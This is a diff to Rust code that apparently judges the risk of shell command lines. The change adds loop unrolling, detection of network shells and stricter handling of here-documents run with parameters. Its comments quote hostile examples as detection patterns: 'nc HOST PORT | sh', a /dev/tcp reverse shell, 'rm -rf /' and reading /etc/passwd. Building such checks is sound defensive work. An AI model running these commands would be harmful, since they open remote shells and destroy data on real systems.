@@ -95,9 +95,12 @@ fn judge_line_shown(ctx: &Ctx, line: &str) -> Verdict {
         );
     }
     // `X=/srv/app/build; rm -rf $X`: where the line's variables can only hold the values it
-    // gives them, the line is what it runs with them written out (`assigned.rs`).
+    // gives them, the line is what it runs with them written out (`assigned.rs`). `for f in
+    // /tmp/a /tmp/b; do ls -l "$f"; done`: a loop over values the line shows is its body run
+    // once with each (`loops.rs`), no higher than that and as high as the worst.
     if ctx.depth < MAX_DEPTH
-        && let Some(text) = crate::assigned::determined(line)
+        && let Some(text) =
+            crate::assigned::determined(line).or_else(|| crate::loops::unrolled(line))
     {
         return judge_line(
             &Ctx {
@@ -140,6 +143,11 @@ fn judge_line_shown(ctx: &Ctx, line: &str) -> Verdict {
         } else {
             verdict.stricter(judged)
         };
+    }
+    // `nc HOST PORT | sh`, `sh -i < /dev/tcp/HOST/PORT`: a shell opened to the network
+    // (`network_shells.rs`).
+    if let Some(why) = crate::network_shells::opened(&parts) {
+        verdict = verdict.stricter(Verdict::new(RiskLevel::Forbidden, why, line));
     }
     // `echo TEXT | sh`, `printf TEXT | bash -s ARGS`: the shell runs what the stage before it
     // prints, with the parameters it is given (`positional.rs`), judged as a line of its own
@@ -206,8 +214,15 @@ fn judge_line_shown(ctx: &Ctx, line: &str) -> Verdict {
     // `bash <(echo 'rm -rf /')`: the script a shell reads from a process substitution;
     // `python3 <<EOF … EOF`: a here-document, judged as the here-string it amounts to.
     if ctx.depth < MAX_DEPTH {
+        // A shell given parameters runs its here-document with them (`sh -s /etc/passwd
+        // <<'EOF'`), judged at every level as the here-string it amounts to.
         for text in crate::fed_args::here_documents(line) {
-            verdict = forbidden_inside(ctx, verdict, line, &text, "with its here-document,");
+            let inside = if runs_script_with_parameters(&text) {
+                stricter_inside
+            } else {
+                forbidden_inside
+            };
+            verdict = inside(ctx, verdict, line, &text, "with its here-document,");
         }
         for text in crate::fed_args::substituted_scripts(line) {
             verdict = forbidden_inside(ctx, verdict, line, &text, "the shell reads");
@@ -728,6 +743,17 @@ fn piped_script(printer: &Command, shell: &Command) -> Option<String> {
     let reads_input = (matches!(name.as_str(), "source" | ".") && args.first().is_some_and(stdin))
         || matches!(name.as_str(), "at" | "batch");
     reads_input.then_some(text)
+}
+
+/// Whether `text` (a command given a here-string) is a shell reading its script from its
+/// input with positional parameters (`sh -s ARGS`, `bash -s -- ARGS`).
+fn runs_script_with_parameters(text: &str) -> bool {
+    let Ok((parts, _)) = commands(text) else {
+        return false;
+    };
+    parts.iter().any(|part| {
+        crate::normalize::shell_reading_input(&part.words).is_some_and(|given| !given.is_empty())
+    })
 }
 
 /// The script `text` a shell named `shell` reads from its input, with the parameters `given`
